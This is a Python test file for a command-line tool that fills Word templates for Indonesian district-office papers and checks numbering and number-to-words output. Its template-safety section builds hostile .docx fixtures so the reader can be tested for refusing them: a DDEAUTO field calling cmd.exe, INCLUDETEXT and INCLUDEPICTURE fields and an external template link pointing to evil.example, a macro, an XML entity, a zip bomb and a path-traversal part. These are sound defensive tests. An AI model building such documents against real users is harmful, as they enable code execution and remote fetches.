"""Papers: words into a Word file, numbers that are given once, templates that are not trusted."""

import re
import warnings
import zipfile
from io import BytesIO
from xml.dom import minidom

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from paper_files import W, document, paragraphs, said, zipped

from perut_cli.core.errors import Conflict, Invalid, Usage
from perut_cli.core.numbering import Number, next_number, usable, written
from perut_cli.core.paper_forms import line_word
from perut_cli.core.paper_kinds import KINDS
from perut_cli.core.paper_words import LISTS
from perut_cli.core.settings import FIELDS, Settings, settings_of
from perut_cli.core.terbilang import date_in_words, decimal_words, terbilang
from perut_cli.render.papers import package
from perut_cli.render.papers.fill import Words, faults, fill
from perut_cli.render.papers.shipped import template
from perut_cli.reports.papers.paper import known
from perut_cli.reports.papers.period import period_text
from perut_cli.reports.papers.visit import enumerated

every_kind = pytest.mark.parametrize("kind", KINDS)


def words(texts=None, lists=None) -> Words:
    lists = lists or {}
    of_lists = {name: list(rows[0]) if rows else ["due"] for name, rows in lists.items()}
    return Words(texts or {}, lists, of_lists, {})


# Filling


@settings(max_examples=60, deadline=None)
@given(st.lists(st.integers(0, 30), max_size=6), st.text(max_size=20))
def test_a_placeholder_split_over_runs_is_one(cuts, before):
    before = re.sub(r"[\x00-\x1f{}\ud800-\udfff\ufffe\uffff]", "", before)
    whole = before + "Desa {village_name}, hari ini"
    places = sorted({min(cut, len(whole)) for cut in cuts})
    runs = [whole[low:high] for low, high in zip([0, *places], [*places, len(whole)], strict=True)]
    filled = fill(document(paragraphs(runs)), words({"village_name": "Pematang"}))
    assert said(filled) == [before + "Desa Pematang, hari ini"]


@settings(max_examples=100, deadline=None)
@given(st.text(max_size=40))
def test_data_is_text_whatever_it_holds(value):
    filled = fill(document(paragraphs(["[{summary}]"])), words({"summary": value}))
    shown = "\n".join(said(filled)).removeprefix("[").removesuffix("]")
    plain = value.replace("\r\n", "\n").replace("\r", "\n")
    assert shown == re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]", "\ufffd", plain)


CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")
HOSTILE_TEXT = st.lists(
    st.one_of(
        st.sampled_from(
            [
                "{actions.no}",
                "{village_name}",
                "{?x}",
                "{{7*7}}",
                "${x}",
                "<w:p/>",
                "&amp;",
                "]]>",
                "<!--",
                "\r\n",
                "\r",
                "\n",
                "\x0b",
                "\x00",
            ]
        ),
        st.text(max_size=5),
    ),
    max_size=5,
).map("".join)


@settings(max_examples=80, deadline=None)
@given(st.lists(HOSTILE_TEXT, min_size=1, max_size=4), st.lists(st.integers(0, 45), max_size=8))
def test_rows_take_any_data_however_their_text_is_split_over_runs(data, cuts):
    whole = "<{actions.no}> Tindak: {actions.action_text}."
    places = sorted({min(cut, len(whole)) for cut in cuts})
    runs = [whole[low:high] for low, high in zip([0, *places], [*places, len(whole)], strict=True)]
    row = f"<w:tbl><w:tr><w:tc>{paragraphs(runs)}</w:tc></w:tr></w:tbl>"
    records = [{"no": str(n), "action_text": text} for n, text in enumerate(data, 1)]
    filled = fill(document(row), words(lists={"actions": records}))
    shown = [CONTROL.sub("\ufffd", re.sub("\r\n?", "\n", text)) for text in data]
    expected = "\n".join(f"<{n}> Tindak: {text}." for n, text in enumerate(shown, 1))
    assert "\n".join(said(filled)) == expected
    again = package.read(package.write(filled))
    assert said(again) == said(filled)


def kept_table(count: int):
    """The parts of a body in which a list of so many rows was kept with what follows."""
    line = "<w:p><w:pPr><w:keepNext/></w:pPr><w:r><w:t>{actions.due}</w:t></w:r></w:p>"
    widths = '<w:tblPr/><w:tblGrid><w:gridCol w:w="9"/></w:tblGrid>'
    table = f"<w:tbl>{widths}<w:tr><w:tc>{line}</w:tc></w:tr></w:tbl>"
    many = [{"due": str(n)} for n in range(count)]
    filled = fill(document(table + paragraphs(["Tanda tangan"])), words(lists={"actions": many}))
    tree = minidom.parseString(filled[package.BODY])  # noqa: S318 - made by the test
    return tree.getElementsByTagName("w:body")[0].childNodes


def marks(part) -> int:
    return len(part.getElementsByTagName("w:keepNext"))


@pytest.mark.parametrize("count", [1, 2])
def test_a_short_list_stays_whole_with_what_follows(count):
    table, _ = kept_table(count)
    assert marks(table) == count


def test_the_last_rows_of_a_longer_list_are_a_table_that_stays_with_what_follows():
    table, between, last, _ = kept_table(9)
    assert (marks(table), marks(between), marks(last)) == (0, 1, 2)
    assert between.getElementsByTagName("w:vanish")
    assert last.getElementsByTagName("w:gridCol")[0].getAttribute("w:w") == "9"
    assert "".join(t.firstChild.data for t in last.getElementsByTagName("w:t")) == "78"


def test_data_with_placeholders_is_not_filled_again():
    lists = {"actions": [{"due": "{village_name}"}, {"due": "{actions.due}"}]}
    filled = fill(
        document(paragraphs(["{actions.due}"], ["{summary}"])),
        words({"village_name": "X", "summary": "{village_name} {{7*7}} ${x}"}, lists),
    )
    assert said(filled) == ["{village_name}", "{actions.due}", "{village_name} {{7*7}} ${x}"]


def test_a_new_line_in_a_value_is_a_new_paragraph():
    filled = fill(document(paragraphs(["Hasil: {summary}."])), words({"summary": "a\nb\nc"}))
    assert said(filled) == ["Hasil: a", "b", "c."]


def test_a_blank_word_with_a_question_mark_takes_its_paragraph_away():
    filled = fill(
        document(paragraphs(["NIP {?head_nip}"], ["{?summary}"], ["{?guests}"])),
        words({"head_nip": "", "summary": "ada", "guests": " "}),
    )
    assert said(filled) == ["ada"]


def test_a_row_repeats_and_an_empty_list_leaves_one_of_dashes():
    row = f"<w:tbl><w:tr><w:tc>{paragraphs(['{actions.due}'])}</w:tc></w:tr></w:tbl>"
    full = words(lists={"actions": [{"due": "1"}, {"due": "2"}]})
    assert said(fill(document(row), full)) == ["1", "2"]
    assert said(fill(document(row), words(lists={"actions": []}))) == ["-"]


def test_every_unknown_word_is_told_with_the_nearest():
    body = paragraphs(["{vilage_name} {village_name}"], ["{Village_name} {a b}"], ["{actions.dua}"])
    lists = {"actions": [{"due": "1"}]}
    found = faults(document(body), words({"village_name": "X"}, lists))
    assert [tuple(fault) for fault in found] == [
        ("{vilage_name}", "{village_name}"),
        ("{Village_name}", "{village_name}"),
        ("{a b}", ""),
        ("{actions.dua}", "{actions.due}"),
    ]


def test_a_paragraph_of_two_lists_is_told():
    lists = {"actions": [{"due": "1"}], "team": [{"no": "1"}]}
    (fault,) = faults(document(paragraphs(["{actions.due} {team.no}"])), words(lists=lists))
    assert "actions" in fault.placeholder
    assert "team" in fault.placeholder


def test_the_nearest_word_of_a_list_is_in_the_language_that_was_written():
    (fault,) = faults(document(paragraphs(["{tindak_lanjut.tengat}"])), known("rtl"))
    assert fault.nearest == "{tindak_lanjut.tenggat}"


def test_of_tables_within_a_table_the_inner_row_repeats():
    inner = f"<w:tbl><w:tr><w:tc>{paragraphs(['{actions.due}'])}</w:tc></w:tr></w:tbl>"
    outer = f"<w:tbl><w:tr><w:tc>{paragraphs(['{summary}'])}{inner}</w:tc></w:tr></w:tbl>"
    lists = {"actions": [{"due": "{summary}"}, {"due": "2"}]}
    filled = fill(document(outer), words({"summary": "S"}, lists))
    assert said(filled) == ["S", "{summary}", "2"]


def test_the_same_data_gives_the_same_bytes():
    parts = document(paragraphs(["{village_name}"]))
    once = package.write(fill(parts, words({"village_name": "X"})))
    assert once == package.write(fill(parts, words({"village_name": "X"})))


# Templates


@every_kind
def test_a_shipped_template_has_only_known_words(kind):
    parts = package.read(template(kind))
    assert faults(parts, known(kind)) == []
    assert template(kind) == template(kind)
    assert template(kind, "a4") != template(kind)


@every_kind
def test_its_words_are_known_in_indonesian_too(kind):
    own = known(kind)
    for name, meant in own.names.items():
        named, _, word = name.partition(".")
        known_words = own.of_lists[named] if word else [*own.texts, *own.of_lists]
        assert meant in known_words, name
    body = paragraphs(*([f"{{{name}}}"] for name, meant in own.names.items() if meant in own.texts))
    assert faults(document(body), own) == []


def indonesian(text: str, own: Words) -> str:
    """A template's text with every word by its Indonesian name."""
    names = {meant: name for name, meant in own.names.items() if "." not in name}

    def other(hole: re.Match[str]) -> str:
        if not hole[3]:
            return "{" + hole[1] + names.get(hole[2], hole[2]) + "}"
        day = hole[3].removesuffix("_long")
        return f"{{{hole[1]}{LISTS[hole[2]].name_id}.{line_word(day).key_id}{hole[3][len(day) :]}}}"

    return re.sub(r"\{(\??)([a-z][a-z0-9_]*)(?:\.([a-z][a-z0-9_]*))?\}", other, text)


@pytest.mark.parametrize(
    ("kind", "to"), [*((kind, "") for kind in KINDS), ("laporan-berkala", "bupati")]
)
def test_a_shipped_template_in_indonesian_words_gives_the_same_paper(kind, to):
    own = known(kind)
    texts = {word: word.upper() for word in own.texts}
    lists = {
        name: [{word: word.upper() for word in named}] * 2 for name, named in own.of_lists.items()
    }
    full = Words(texts, lists, own.of_lists, own.names)
    parts = package.read(template(kind, to=to))
    translated = {
        name: indonesian(data.decode(), own).encode() if name.endswith(".xml") else data
        for name, data in parts.items()
    }
    assert translated[package.BODY] != parts[package.BODY]
    assert faults(parts, own) == faults(translated, own) == []
    assert fill(translated, full) == fill(parts, full)


def twice(parts: dict[str, bytes]) -> bytes:
    """A file whose parts stand in it twice."""
    out = BytesIO()
    with zipfile.ZipFile(out, "w") as archive, warnings.catch_warnings():
        warnings.simplefilter("ignore")
        for name, data in [*parts.items(), *parts.items()]:
            archive.writestr(name, data)
    return out.getvalue()


REL = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r1" Type="http://x/{kind}" Target="http://evil.example/x" TargetMode="External"/>'
    "</Relationships>"
)
GOOD = document(paragraphs(["Desa"]))
FIELD = document("<w:p><w:r><w:instrText>DDEAUTO c:\\\\cmd.exe</w:instrText></w:r></w:p>")
HOSTILE = {
    "no file of Word": b"%PDF-1.7",
    "an empty file": b"",
    "a cut file": zipped(GOOD)[:-30],
    "a macro": zipped({**GOOD, "word/vbaProject.bin": b"x"}),
    "an embedded object": zipped({**GOOD, "word/embeddings/oleObject1.bin": b"x"}),
    "a document type": zipped({package.BODY: b'<!DOCTYPE a [<!ENTITY b "c">]><a>&b;</a>'}),
    "a document type in UTF-16": zipped(
        {package.BODY: '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode("utf-16")}
    ),
    "a template from outside": zipped(
        {**GOOD, "word/_rels/settings.xml.rels": REL.format(kind="attachedTemplate").encode()}
    ),
    "a picture from outside": zipped(
        {**GOOD, "word/_rels/document.xml.rels": REL.format(kind="image").encode()}
    ),
    "a field that runs": zipped(FIELD),
    "a field that runs, by another prefix": zipped(
        {
            **GOOD,
            "word/header1.xml": f'<x:hdr xmlns:x="{W}"><x:p><x:r><x:instrText>INCLUDETEXT '
            "http://evil.example/x</x:instrText></x:r></x:p></x:hdr>".encode(),
        }
    ),
    "a simple field that fetches": zipped(
        document('<w:p><w:fldSimple w:instr=" INCLUDEPICTURE http://evil.example/x "/></w:p>')
    ),
    "relationships in capitals": zipped(
        {**GOOD, "word/_rels/settings.xml.RELS": REL.format(kind="attachedTemplate").encode()}
    ),
    "a page of HTML": zipped({**GOOD, "word/afchunk.html": b"<script>x</script>"}),
    "a document type hidden by its encoding": zipped(
        {
            package.BODY: '<?xml version="1.0" encoding="utf-16"?><!DOCTYPE a><a/>'.encode(
                "utf-16-be"
            )
        }
    ),
    "two parts of one name": twice(GOOD),
    "elements without end": zipped({package.BODY: b"<a>" * 100_000 + b"</a>" * 100_000}),
    "a million elements": zipped({package.BODY: b"<a>" + b"<b/>" * 1_000_000 + b"</a>"}),
    "a bomb": zipped({**GOOD, "word/media/a.xml": b"0" * (21 << 20)}),
    "text by another prefix": zipped(
        {package.BODY: f'<x:document xmlns:x="{W}"><x:body/></x:document>'.encode()}
    ),
    "no document in it": zipped({"a.xml": b"<a/>"}),
    "broken XML": zipped({package.BODY: b"<w:document"}),
    "a part outside": zipped({**GOOD, "../../evil.xml": b"<a/>"}),
}


@pytest.mark.parametrize("what", HOSTILE)
def test_a_hostile_template_is_refused(what):
    with pytest.raises(Invalid) as error:
        package.read(HOSTILE[what], "t.docx")
    assert error.value.number == "P332"


def test_a_hyperlink_is_allowed():
    parts = {**GOOD, "word/_rels/document.xml.rels": REL.format(kind="hyperlink").encode()}
    assert package.read(zipped(parts))[package.BODY] == GOOD[package.BODY]


# Words and numbers


def test_numbers_and_days_in_words():
    assert terbilang(2026) == "dua ribu dua puluh enam"
    assert [terbilang(n) for n in (0, 11, 19, 100, 1_000, 1_011)] == [
        "nol", "sebelas", "sembilan belas", "seratus", "seribu", "seribu sebelas",
    ]  # fmt: skip
    assert decimal_words("79,9") == "tujuh puluh sembilan koma sembilan"
    assert decimal_words("80,0") == "delapan puluh"
    assert decimal_words("80,05") == "delapan puluh koma nol lima"
    assert date_in_words("2026-01-13") == (
        "Selasa tanggal tiga belas bulan Januari tahun dua ribu dua puluh enam"
    )


def test_the_next_number_is_after_the_last_issued_and_over_the_reserved():
    assert next_number([], 5) == 5
    taken = [Number(5, "issued"), Number(6, "void"), Number(7, "reserved"), Number(40, "reserved")]
    assert next_number(taken, 1) == 8
    for number in (5, 6):
        with pytest.raises(Conflict):
            usable(number, taken)
    usable(7, taken)
    with pytest.raises(Conflict):
        usable(12, [Number(12, "reserved", outside=True)])


def test_the_numbers_of_a_used_block_are_jumped_over_when_their_turn_comes():
    own = [Number(n, "issued") for n in (1, 2)]
    block = [Number(n, "issued", was_reserved=True) for n in (4, 5)]
    assert next_number([*own, *block], 1) == 3
    assert next_number([*own, Number(3, "issued"), *block], 1) == 6


def test_a_pattern_writes_a_number():
    pattern = "{classification}/{sequence:03}/{unit}/{roman_month}/{year}"
    pieces = {"classification": "400.10", "unit": "KEC-AWY", "kind": "undangan"}
    assert written(pattern, pieces, 7, "2026-11-24") == "400.10/007/KEC-AWY/XI/2026"
    assert written(pattern, {**pieces, "classification": ""}, 7, "2026-11-24") == (
        "007/KEC-AWY/XI/2026"
    )
    with pytest.raises(Usage):
        written("{classification}/{unit}", pieces, 7, "2026-11-24")


def test_five_hundred_rows_are_filled():
    row = f"<w:tbl><w:tr><w:tc>{paragraphs(['{actions.no} {actions.due}'])}</w:tc></w:tr></w:tbl>"
    many = [{"no": str(n), "due": "x"} for n in range(500)]
    assert len(said(fill(document(row), words(lists={"actions": many})))) == 500


def test_every_setting_of_papers_has_its_default_explained():
    for kind in KINDS:
        key = f"classification_{kind.replace('-', '_')}"
        assert re.fullmatch(r"\d{3}(\.\d+)+", getattr(Settings(), key)), key
        assert "Permendagri 83/2022" in FIELDS[key].help.en, key


@pytest.mark.parametrize(
    ("name", "unit"),
    [
        ("Awayan", "KEC-AWY"),
        ("Paringin Selatan", "KEC-PRNS"),
        ("Juai", "KEC-JUA"),
        ("Tebing Tinggi", "KEC-TBNT"),
        ("", "KEC"),
    ],
)
def test_the_unit_is_of_the_offices_own_name_until_it_is_said(name, unit):
    assert settings_of({"district_name": name}).unit == unit
    assert settings_of({"district_name": name, "unit": "KEC.X"}).unit == "KEC.X"


def test_villages_and_topics_are_enumerated():
    assert [enumerated(texts) for texts in ([], ["a"], ["a", "b"], ["a", "b", "c"])] == [
        "", "a", "a dan b", "a, b dan c",
    ]  # fmt: skip
    assert enumerated(["a dan b", "c"]) == "a dan b; serta c"


@pytest.mark.parametrize(
    ("period", "said"),
    [
        ("2026", "Tahun 2026"),
        ("2026-Q3", "Triwulan III Tahun 2026"),
        ("2026-S1", "Semester I Tahun 2026"),
        ("2026-11", "Bulan November 2026"),
        ("", "2 Januari 2026 sampai 5 Februari 2026"),
    ],
)
def test_a_period_in_words(period, said):
    assert period_text(period, "2026-01-02", "2026-02-05") == said
